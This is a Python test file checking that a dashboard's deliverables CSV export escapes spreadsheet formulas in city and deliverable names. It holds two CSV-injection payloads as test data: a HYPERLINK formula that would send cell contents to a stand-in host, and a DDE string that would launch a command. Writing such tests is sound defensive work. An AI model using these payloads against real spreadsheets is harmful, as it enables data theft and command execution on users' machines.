"""The deliverables CSV export, read back with the csv module: names typed by people that
would be formulas in a spreadsheet come back as text, with a leading quote."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
import sqlalchemy as sa

from calendars.timeline_types import LoadedInputs
from tasks.operations import apply_cohort
from tests.web.test_dashboard_http import (
    APPLIED_AT,
    CITY,
    COHORT,
    DELIVERABLE,
    NOW,
    LiveDashboard,
    operator_settings,
)
from web.app import create_app
from web.thread_server import serving

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Santiago")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def dashboard(sqlite_engine: sa.Engine, small: LoadedInputs) -> Iterator[LiveDashboard]:
    """The small cohort applied on 1 May, served with `now` pinned to 1 September 2024."""
    apply_cohort(sqlite_engine, small, now=APPLIED_AT)
    app = create_app(operator_settings(), engine=sqlite_engine, clock=lambda: NOW)
    with serving(app) as url:
        yield LiveDashboard(url, sqlite_engine, small, tokens={})


def test_city_and_deliverable_names_are_exported_as_text(dashboard: LiveDashboard) -> None:
    with dashboard.engine.begin() as connection:
        connection.execute(
            sa.update(CITY)
            .where(CITY.c.cohort_id == COHORT, CITY.c.id == "santiago")
            .values(name=HYPERLINK)
        )
        connection.execute(
            sa.update(DELIVERABLE)
            .where(DELIVERABLE.c.cohort_id == COHORT, DELIVERABLE.c.deliverable == "roster")
            .values(title={"en": TITLE, "es": TITLE})
        )
    with dashboard.client() as client:
        dashboard.login(client)
        response = client.get("/ops/deliverables.csv")
    assert response.status_code == 200
    lines = list(csv.DictReader(io.StringIO(response.text)))
    santiago = [line for line in lines if line["city_id"] == "santiago"]
    assert santiago and {line["city"] for line in santiago} == {"'" + HYPERLINK}
    roster = [line for line in lines if line["deliverable"] == "roster"]
    assert roster and {line["title"] for line in roster} == {"'" + TITLE}
    others = {line["city"] for line in lines if line["city_id"] != "santiago"}
    assert others and not any(name.startswith("'") for name in others)
